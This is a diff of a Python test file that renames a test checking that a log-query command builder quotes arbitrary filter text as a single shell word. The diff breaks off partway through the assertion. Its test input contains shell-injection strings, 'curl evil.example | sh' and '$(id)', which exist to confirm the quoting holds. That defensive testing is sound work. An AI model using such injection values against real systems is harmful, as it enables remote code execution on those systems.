@@ -10,7 +10,7 @@ import pytest
 from tollgate.control.console.logs import _command, query_of
 
 
-def test_command_holds_a_filter_as_one_word_whatever_stands_in_it() -> None:
+def test_command_quotes_a_filter_of_any_text_as_one_word() -> None:
     given = {"method": "eth_call; curl evil.example | sh", "source": "$(id)", "errors": "on"}
     command = _command("acme", given)
     assert shlex.split(command, comments=True) == [
